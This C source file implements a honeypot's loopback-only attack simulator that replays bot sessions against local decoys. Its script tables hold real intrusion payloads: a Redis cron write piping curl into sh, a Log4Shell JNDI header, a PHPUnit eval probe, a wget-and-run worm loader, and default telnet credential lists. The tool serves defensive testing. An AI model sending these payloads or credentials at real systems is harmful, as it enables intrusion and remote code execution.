/* sundew attack: friendly attack traffic at our own decoys on this host, so that a demonstration or
 * a test has something to show. No option reaches another host: targets are loopback, always.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <unistd.h>

#include "base/address.h"
#include "base/clock.h"
#include "base/log.h"
#include "cli/command.h"

#define ANSWER_MAX 65536
#define STEP_WAIT  120 /* milliseconds that a step waits for its answer */
#define SOURCES    60  /* different loopback addresses that attacks come from */

static const struct command_option attack_options[] = {
	{"port-offset", 0, "N", "Added to every port, as for `sundew run` (default: 0)"},
	{"seconds", 0, "N", "How long (default: 5)"},
	{"seed", 0, "N", "Same seed, same attacks (default: 1)"},
	{"target", 0, "ADDRESS", "A loopback address (default: 127.0.0.1); any other is refused"},
	{"wait", 0, "N", "Wait up to so many seconds for the first port to open"},
};

/* What a bot says to one port, step by step; @U, @P and @N become a user, a password and a number,
 * @L the length of what comes behind the head. */
struct script {
	const char *name;
	uint16_t port;
	bool datagram;
	unsigned weight;
	const char *steps[8];
};

static const struct script scripts[] = {
	{"telnet log-in", 23, false, 6, {"", "@U\r\n", "@P\r\n", "enable\r\n"}},
	{"redis cron write",
	 6379,
	 false,
	 2,
	 {"*1\r\n$4\r\nINFO\r\n", "CONFIG SET dir /var/spool/cron\r\n",
	  "CONFIG SET dbfilename root\r\n",
	  "SET x \"\\n*/5 * * * * curl -fsSL http://198.51.100.@N/i.sh | sh\\n\"\r\n", "SAVE\r\n"}},
	{"redis password", 6379, false, 2, {"AUTH @P\r\n", "PING\r\n", "QUIT\r\n"}},
	{"web scan",
	 80,
	 false,
	 5,
	 {"GET /.env HTTP/1.1\r\nHost: 203.0.113.9\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n",
	  "GET /wp-login.php HTTP/1.1\r\nHost: 203.0.113.9\r\nUser-Agent: Mozilla/5.0\r\n\r\n"}},
	{"web log-in",
	 80,
	 false,
	 4,
	 {"POST /login HTTP/1.1\r\nHost: 203.0.113.9\r\nContent-Type: "
	  "application/x-www-form-urlencoded\r\nContent-Length: @L\r\n\r\n"
	  "username=@U&password=@P"}},
	{"log4shell",
	 8080,
	 false,
	 2,
	 {"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://198.51.100.@N/a}\r\n\r\n"}},
	{"phpunit",
	 80,
	 false,
	 1,
	 {"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: x\r\n"
	  "Content-Length: 26\r\n\r\n<?php echo md5('sundew');?>"}},
	{"ftp log-in", 21, false, 4, {"", "USER @U\r\n", "PASS @P\r\n", "QUIT\r\n"}},
	{"ftp upload try",
	 21,
	 false,
	 1,
	 {"", "USER anonymous\r\n", "PASS x@y\r\n", "PASV\r\n", "QUIT\r\n"}},
	{"ethereum",
	 8545,
	 false,
	 2,
	 {"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: "
	  "62\r\n\r\n"
	  "{\"jsonrpc\":\"2.0\",\"method\":\"eth_accounts\",\"params\":[],\"id\":1001}"}},
	{"sip scan",
	 5060,
	 true,
	 3,
	 {"OPTIONS sip:100@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP "
	  "127.0.0.1:5999;branch=z9hG4bK-@N;rport"
	  "\r\nMax-Forwards: 70\r\nFrom: \"sipvicious\"<sip:100@1.1.1.1>;tag=6@N\r\nTo: "
	  "\"sipvicious\"<sip:100@1.1.1.1>\r\nCall-ID: 8@N\r\nCSeq: 1 OPTIONS\r\nContact: "
	  "sip:100@127.0.0.1:5999\r\nAccept: application/sdp\r\nUser-Agent: friendly-scanner\r\n"
	  "Content-Length: 0\r\n\r\n"}},
	{"smb probe", 445, false, 3, {"\x83SMBr probe of an old worm @N"}},
	{"rdp probe", 3389, false, 2, {"\x03Cookie: mstshash=@U\r\n"}},
	{"vnc probe", 5900, false, 1, {"RFB 003.008\n"}},
};

static const char *const users[] = {"root",    "admin",  "root", "user",   "test",
				    "support", "oracle", "pi",   "ubuntu", "guest"};
static const char *const passwords[] = {"123456",    "admin",  "root",    "password", "12345",
					"1234",      "xc3511", "vizxv",   "888888",   "default",
					"raspberry", "qwerty", "letmein", "P@ssw0rd", "changeme",
					"toor",      "test",   "111111",  "support",  "guest"};

/* A worm's password list at one telnet port, all of it at once from one source, until a pair gets
 * in; then what loaders say first. */
static const char *const worm_passwords[] = {
	"xc3511",  "vizxv",   "7ujMko0admin", "Zte521",   "hi3518",  "jvbzd",  "anko", "zlxx.",
	"xmhdipc", "klv1234", "juantech",     "dreambox", "realtek", "GM8182", "ikwb", "00000000"};
static const char *const worm_commands[] = {
	"enable",
	"system",
	"shell",
	"sh",
	"/bin/busybox SUNDEW",
	"cat /proc/cpuinfo | grep -c name",
	"uname -a",
	"cd /tmp && wget http://198.51.100.7/bins.sh -O b && sh b"};

struct worm {
	int descriptor; /* -1: none */
	size_t number;  /* of its password */
	size_t said;    /* commands */
	bool tried;     /* its password */
	char tail[16];  /* what came last, with a NUL */
};

struct attack {
	uint64_t draws;
	struct endpoint target;
	uint16_t offset;
	uint64_t sessions, answered, refused;
};

/* A linear congruential generator (Knuth's MMIX): repeatable is all it must be. */
static uint64_t draw(struct attack *attack, uint64_t below)
{
	attack->draws = attack->draws * 6364136223846793005u + 1442695040888963407u;
	return (attack->draws >> 33) % below;
}

/* Low numbers come far more often, as passwords and sources do. */
static size_t draw_skewed(struct attack *attack, size_t below)
{
	size_t a = (size_t)draw(attack, below), b = (size_t)draw(attack, below);

	return a * b / below;
}

static void fill_in(struct attack *attack, const char *text, struct writer *out)
{
	const char *password = passwords[draw_skewed(attack, ARRAY_COUNT(passwords))];

	for (; *text; text++) {
		if (text[0] == '@' && text[1] == 'L') {
			const char *body = strstr(text, "\r\n\r\n") + 4;
			struct writer rest = writer_growing(65536);

			fill_in(attack, body, &rest);
			writer_decimal(out, (int64_t)rest.length);
			writer_bytes(out, slice_of(text + 2, (size_t)(body - text - 2)));
			writer_bytes(out, writer_slice(&rest));
			writer_free(&rest);
			return;
		}
		if (text[0] != '@' || !text[1] || !strchr("UPN", text[1])) {
			writer_u8(out, (uint8_t)*text);
			continue;
		}
		text++;
		if (*text == 'U')
			writer_text(out, users[draw_skewed(attack, ARRAY_COUNT(users))]);
		else if (*text == 'P')
			writer_text(out, password);
		else
			writer_decimal(out, (int64_t)draw(attack, 250) + 1);
	}
}

/* A connected socket from one of the loopback addresses, or -1. */
static int connect_from(struct attack *attack, const struct script *script, size_t source)
{
	struct endpoint to = attack->target, from = {attack->target.address, 0};
	struct sockaddr_storage address;
	struct pollfd wait;
	socklen_t length;
	int one = 1, failure = 0;
	int descriptor = socket(
		to.address.family == 4 ? AF_INET : AF_INET6,
		(script->datagram ? SOCK_DGRAM : SOCK_STREAM) | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (descriptor < 0)
		return -1;
	to.port = (uint16_t)(script->port + attack->offset);
	if (to.address.family == 4) {
		from.address = address_v4(0x7f000000u + 0x10101u * (uint32_t)(1 + source));
		setsockopt(descriptor, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
		length = endpoint_to_socket(&from, &address);
		(void)!bind(descriptor, (struct sockaddr *)&address, length);
	}
	length = endpoint_to_socket(&to, &address);
	wait = (struct pollfd){descriptor, POLLOUT, 0};
	if (connect(descriptor, (struct sockaddr *)&address, length) < 0 &&
	    (errno != EINPROGRESS || poll(&wait, 1, 2000) != 1))
		failure = 1;
	length = sizeof(failure);
	if (!failure)
		getsockopt(descriptor, SOL_SOCKET, SO_ERROR, &failure, &length);
	if (failure) {
		close(descriptor);
		return -1;
	}
	return descriptor;
}

static void play(struct attack *attack, const struct script *script)
{
	int descriptor = connect_from(attack, script, draw_skewed(attack, SOURCES));
	uint8_t room[ANSWER_MAX];
	bool answered = false;

	if (descriptor < 0) {
		attack->refused++;
		return;
	}
	attack->sessions++;
	for (size_t i = 0; i < ARRAY_COUNT(script->steps) && script->steps[i]; i++) {
		struct pollfd wait = {descriptor, POLLIN, 0};
		struct writer text = writer_growing(65536);
		bool gone;

		fill_in(attack, script->steps[i], &text);
		gone = text.length &&
		       send(descriptor, text.at, text.length, MSG_NOSIGNAL) != (ssize_t)text.length;
		writer_free(&text);
		if (gone)
			break;
		if (poll(&wait, 1, STEP_WAIT) == 1) {
			if (recv(descriptor, room, sizeof(room), 0) <= 0)
				break;
			answered = true;
		}
	}
	attack->answered += answered;
	close(descriptor);
}

/* --- the worm --- */

static void leave(struct worm *worm)
{
	if (worm->descriptor >= 0)
		close(worm->descriptor);
	worm->descriptor = -1;
}

static void begin_worm(struct attack *attack, struct worm *worms)
{
	static const struct script door = {"", 23, false, 0, {NULL}};
	size_t source = draw(attack, SOURCES);

	for (size_t i = 0; i < ARRAY_COUNT(worm_passwords); i++) {
		worms[i] = (struct worm){.number = i};
		worms[i].descriptor = connect_from(attack, &door, source);
		attack->sessions += worms[i].descriptor >= 0;
		attack->refused += worms[i].descriptor < 0;
	}
}

static bool ends_with(const struct worm *worm, const char *end)
{
	size_t length = strlen(worm->tail), wanted = strlen(end);

	return length >= wanted && strcmp(worm->tail + length - wanted, end) == 0;
}

/* Keeps the end of what came. */
static void hear(struct worm *worm, struct slice bytes)
{
	size_t room = sizeof(worm->tail) - 1, had = strlen(worm->tail);
	size_t more = bytes.length < room ? bytes.length : room;
	size_t keep = had < room - more ? had : room - more;

	memmove(worm->tail, worm->tail + had - keep, keep);
	memcpy(worm->tail + keep, bytes.at + bytes.length - more, more);
	worm->tail[keep + more] = '\0';
}

static const char *answer_of(struct worm *worm)
{
	if (ends_with(worm, "ogin: "))
		return worm->tried ? NULL : "root";
	if (ends_with(worm, "assword: ")) {
		worm->tried = true;
		return worm_passwords[worm->number];
	}
	if (ends_with(worm, "# ") || ends_with(worm, "$ "))
		return worm->said < ARRAY_COUNT(worm_commands) ? worm_commands[worm->said++]
							       : "exit";
	return NULL;
}

/* Every option is refused (RFC 1143), or telnetd goes on waiting for an answer. */
static void refuse_options(const struct worm *worm, struct slice bytes)
{
	enum { WILL = 251, WONT, DO, DONT, IAC };

	for (size_t i = 0; i + 2 < bytes.length; i++) {
		uint8_t refusal[3] = {IAC, bytes.at[i + 1] == DO ? WONT : DONT, bytes.at[i + 2]};

		if (bytes.at[i] != IAC || (bytes.at[i + 1] != DO && bytes.at[i + 1] != WILL))
			continue;
		(void)!send(worm->descriptor, refusal, sizeof(refusal), MSG_NOSIGNAL);
		i += 2;
	}
}

/* Answers the prompt that is there, without waiting for one. A refused pair is not tried again. */
static void turn_worm(struct attack *attack, struct worm *worm)
{
	uint8_t room[4096];
	const char *answer;
	char line[128];
	ssize_t got;
	int length;

	if (worm->descriptor < 0)
		return;
	got = recv(worm->descriptor, room, sizeof(room), 0);
	if (got < 0 && (errno == EAGAIN || errno == EINTR))
		return;
	if (got <= 0) {
		leave(worm);
		return;
	}
	attack->answered += !worm->tail[0];
	refuse_options(worm, slice_of(room, (size_t)got));
	hear(worm, slice_of(room, (size_t)got));
	answer = answer_of(worm);
	if (!answer)
		return;
	worm->tail[0] = ' ';
	worm->tail[1] = '\0';
	length = snprintf(line, sizeof(line), "%s\r\n", answer);
	if (send(worm->descriptor, line, (size_t)length, MSG_NOSIGNAL) != length)
		leave(worm);
}

static const struct script *choose(struct attack *attack)
{
	uint64_t total = 0, at;

	for (size_t i = 0; i < ARRAY_COUNT(scripts); i++)
		total += scripts[i].weight;
	at = draw(attack, total);
	for (size_t i = 0; i < ARRAY_COUNT(scripts); i++) {
		if (at < scripts[i].weight)
			return &scripts[i];
		at -= scripts[i].weight;
	}
	return &scripts[0];
}

/* Until the web decoy's port opens; false when it does not in time. */
static bool wait_for_decoys(struct attack *attack, int64_t seconds)
{
	static const struct script probe = {"", 80, false, 0, {NULL}};
	int64_t until = clock_monotonic() + seconds * SECOND;

	do {
		int descriptor = connect_from(attack, &probe, 0);

		if (descriptor >= 0) {
			close(descriptor);
			return true;
		}
		poll(NULL, 0, 100);
	} while (clock_monotonic() < until);
	return false;
}

static int run_attack(const struct invocation *invocation)
{
	const char *target = option_value(invocation, "target");
	struct attack attack = {
		.draws = (uint64_t)option_number(invocation, "seed", 1, 0, INT64_MAX),
		.offset = (uint16_t)option_number(invocation, "port-offset", 0, 0, 50000),
	};
	int64_t seconds = option_number(invocation, "seconds", 5, 1, 3600), until;
	struct worm worms[ARRAY_COUNT(worm_passwords)];

	if (address_parse(slice_text(target ? target : "127.0.0.1"), &attack.target.address) < 0 ||
	    !address_is_loopback(&attack.target.address))
		usage_error(invocation,
			    "--target %s: attacks go to loopback addresses only, always",
			    target ? target : "");
	if (option_given(invocation, "wait") &&
	    !wait_for_decoys(&attack, option_number(invocation, "wait", 10, 0, 3600))) {
		log_error(
			"no decoy listens on port %u: is `sundew run` up, with this --port-offset?",
			80 + attack.offset);
		return EXIT_TROUBLE;
	}
	until = clock_monotonic() + seconds * SECOND;
	begin_worm(&attack, worms);
	while (clock_monotonic() < until) {
		play(&attack, choose(&attack));
		for (size_t i = 0; i < ARRAY_COUNT(worms); i++)
			turn_worm(&attack, &worms[i]);
	}
	for (size_t i = 0; i < ARRAY_COUNT(worms); i++)
		leave(&worms[i]);
	printf("%llu sessions from many loopback addresses, %llu answered, %llu ports closed\n",
	       (unsigned long long)attack.sessions, (unsigned long long)attack.answered,
	       (unsigned long long)attack.refused);
	return attack.sessions ? EXIT_GOOD : EXIT_TROUBLE;
}

const struct command command_attack = {
	.name = "attack",
	.summary = "Send friendly attack traffic at the decoys of this host",
	.details = "Plays sessions of common bots from many loopback addresses. It never reaches "
		   "another\n"
		   "host: a target that is not loopback is refused.",
	.options = attack_options,
	.option_count = ARRAY_COUNT(attack_options),
	.run = run_attack,
};
